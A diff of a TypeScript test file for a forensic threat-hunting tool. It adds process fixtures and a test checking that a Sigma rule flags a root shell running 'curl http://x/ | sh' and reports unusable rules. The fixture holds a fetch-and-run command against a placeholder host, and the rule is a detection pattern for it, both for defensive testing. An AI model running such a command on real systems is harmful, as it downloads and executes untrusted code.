@@ -1,4 +1,6 @@
 /** Stacking: which one of many differs, and that its score says why. Facts are put straight into the lake. */
+import { writeFile } from 'node:fs/promises';
+import { join } from 'node:path';
 import { afterAll, beforeAll, expect, test } from 'vitest';
 import type { Period } from '../hunt/index.ts';
 import { type ForensicsLab, openForensicsLab } from './__fixtures__/lab.ts';
@@ -65,7 +67,7 @@ beforeAll(async () => {
     const helper = facts.find(({ key }) => key === '/opt/agent/helper');
     const implant = facts.find(({ key }) => key === implantKey);
     const findings = [...(helper ? [finding(helper, 86)] : []), ...(implant ? [finding(implant, 70)] : [])];
-    const artifacts = ['packages', 'systemd', 'identity', 'privileged', 'sockets', 'cron'].map(
+    const artifacts = ['processes', 'packages', 'systemd', 'identity', 'privileged', 'sockets', 'cron'].map(
       (artifact) => ({ artifact, state: 'collected' as const, why: '', bytes: 1, truncated: false }),
     );
     const origin = {
@@ -99,6 +101,22 @@ const special = new Map<string, Fact[]>([
     ],
   ],
   ['web-14', [fact('cron', '/etc/cron.d/a', 'x', { technique: 'T1053.003', owner: 'svc_exposed' })]],
+  [
+    'web-20',
+    [
+      fact('processes', '/usr/bin/dash uid 0', 'sh -c', {
+        detail: { exe: '/usr/bin/dash', command: 'sh -c CURL http://x/ | sh' },
+      }),
+    ],
+  ],
+  [
+    'web-21',
+    [
+      fact('processes', '/usr/bin/curl uid 0', 'curl', {
+        detail: { exe: '/usr/bin/curl', command: 'curl http://x/' },
+      }),
+    ],
+  ],
   ['db-2', [fact('cron', '/etc/cron.d/backup2', 'y', { technique: 'T1053.003' })]],
 ]);
 
@@ -160,6 +178,44 @@ test('indicators of the advisory: an address, an address in a range; not one tha
   expect(find(outliers, 'web-11')?.reasons[0]?.why).toContain('ipv4 23.105.182.19');
   for (const one of outliers.filter(({ host }) => host === 'web-13'))
     expect(kinds(one)).not.toContain('indicator');
+});
+
+test('processes that Sigma rules describe; rules about something else, and bad ones, are said', async () => {
+  const file = join(lab.domain.folder, 'rules.yml');
+  await writeFile(
+    file,
+    [
+      'title: Downloader',
+      'id: 11111111-1111-4111-8111-111111111111',
+      'level: high',
+      'logsource: { product: linux, category: process_creation }',
+      "detection: { selection: { CommandLine|contains|all: [curl, '| sh'] }, condition: selection }",
+      '---',
+      'title: Elsewhere',
+      'id: 22222222-2222-4222-8222-222222222222',
+      'level: low',
+      'logsource: { product: windows, category: process_creation }',
+      'detection: { selection: { Image: x }, condition: selection }',
+      '---',
+      'title: Broken',
+      'id: 33333333-3333-4333-8333-333333333333',
+      'level: low',
+      'logsource: { product: linux, category: process_creation }',
+      'detection: { selection: { Image|nonsense: x }, condition: selection }',
+    ].join('\n'),
+  );
+  const input = { incidentId: lab.incident.id, collectionId, window, limit: 200, sigma: [file] };
+  const report = await stackFacts(lab.context, lab.incident, input);
+  const outlier = find(report.outliers, 'web-20');
+  expect(kinds(outlier)).toContain('indicator');
+  expect(outlier?.reasons[0]).toMatchObject({ points: 85, why: 'matches Sigma rule Downloader (high)' });
+  expect(
+    find(report.outliers, 'web-21')
+      ?.reasons.map(({ why }) => why)
+      .join(),
+  ).not.toContain('Sigma');
+  expect(report.notes).toContain('1 Sigma rule is not about processes of Linux');
+  expect(report.notes.some((note) => note.startsWith('Sigma rule not used: Broken'))).toBe(true);
 });
 
 test('owned by a principal whose credential is exposed', async () => {
